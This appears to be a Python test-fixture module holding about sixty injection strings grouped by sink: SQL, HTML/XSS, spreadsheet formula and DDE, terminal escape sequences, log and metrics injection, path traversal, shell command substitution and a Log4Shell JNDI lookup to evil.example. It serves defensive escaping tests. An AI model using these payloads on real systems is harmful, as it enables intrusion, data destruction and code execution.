"""Sixty texts that some sink would run, follow or break on, if it took a name for something else than a name."""

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE lynceus.pod_cost; --",
    "\\'; SELECT 1 --",
    "x' UNION ALL SELECT 1 --",
    "a\\",
    "{x:String}",
    "`lynceus`.`pod_cost`",
    "1) OR (1=1",
    "/* */ SETTINGS readonly = 0",
    "\\N",
)
HTML = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "<!--",
    "]]>",
    "&lt;b&gt;",
    "<base href=//evil.example>",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "<style>*{display:none}</style>",
    "<a href='data:text/html,x'>",
)
CELLS = (
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＠SUM(1)",
    'a,b"c\nd',
)
TERMINALS = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]52;c;cGF5bG9hZA==\x07",
    "\x9b31m",
    "\b\b\brm",
    "a\rb",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "[red]markup[/red]",
    "[link=http://evil.example]x[/link]",
    "\x00",
    "\x7f",
)
LOGS = ('x" level=error y="', '{"level": "error"}', "a\nb", "a\u2028b", "level=error msg=x", "%s %d %n")
METRICS = ('"} 1\nevil_total 5', 'a\\"', "# HELP evil x", '",evil="', "evil{} 1 # {}")
OTHERS = (
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "$(id)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
    "$__all ${__from} [[var]]",
)

INJECTIONS: tuple[str, ...] = (*SQL, *HTML, *CELLS, *TERMINALS, *LOGS, *METRICS, *OTHERS)
